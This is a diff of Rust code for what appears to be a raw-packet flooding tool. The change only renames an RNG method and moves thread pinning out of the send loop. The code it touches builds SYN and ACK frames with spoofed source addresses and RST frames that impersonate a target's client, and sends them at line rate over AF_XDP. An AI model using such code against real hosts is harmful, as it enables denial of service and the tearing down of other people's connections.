@@ -84,7 +84,7 @@ impl Rng {
     pub fn new(seed: u64) -> Self {
         Rng(seed | 1)
     }
-    pub fn next(&mut self) -> u64 {
+    pub fn next_u64(&mut self) -> u64 {
         let mut x = self.0;
         x ^= x >> 12;
         x ^= x << 25;
@@ -110,7 +110,7 @@ fn fold(mut s: u32) -> u16 {
 /// Writes one frame of `kind` into `f` (exactly [`FRAME_LEN`] bytes); `i` picks the RST
 /// tuple (round robin).
 pub fn write_frame(f: &mut [u8], t: &Target, kind: &Kind, rng: &mut Rng, i: u64) {
-    let r = rng.next();
+    let r = rng.next_u64();
     let (src, sport, flags, ack) = match kind {
         Kind::Syn | Kind::Ack => {
             let o = SPOOF_NET.octets();
@@ -127,7 +127,7 @@ pub fn write_frame(f: &mut [u8], t: &Target, kind: &Kind, rng: &mut Rng, i: u64)
             (t.client, p.unwrap_or(1024), 0x04, 0)
         }
     };
-    let seq = rng.next() as u32;
+    let seq = rng.next_u64() as u32;
     f[..6].copy_from_slice(&t.dst_mac);
     f[6..12].copy_from_slice(&t.src_mac);
     f[12..14].copy_from_slice(&[0x08, 0x00]);
@@ -155,10 +155,10 @@ pub fn write_frame(f: &mut [u8], t: &Target, kind: &Kind, rng: &mut Rng, i: u64)
 }
 
 /// Sends `kind` frames as fast as the device takes them (or at most `rate` frames/s) until
-/// `stop` (or `limit`, or a signal). `live` counts completed frames as they go.
+/// `stop` (or `limit`, or a signal). `live` counts completed frames as they go. The caller
+/// pins the thread.
 pub fn run(
     dev: &mut AfXdpDevice,
-    core: usize,
     t: &Target,
     kind: &Kind,
     rate: Option<f64>,
@@ -166,7 +166,6 @@ pub fn run(
     limit: Duration,
     live: &AtomicU64,
 ) -> Sent {
-    sys::pin(core);
     let c0 = dev.stats_full().tx_completed;
     let mut rng = Rng::new(0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id()));
     let start = Instant::now();
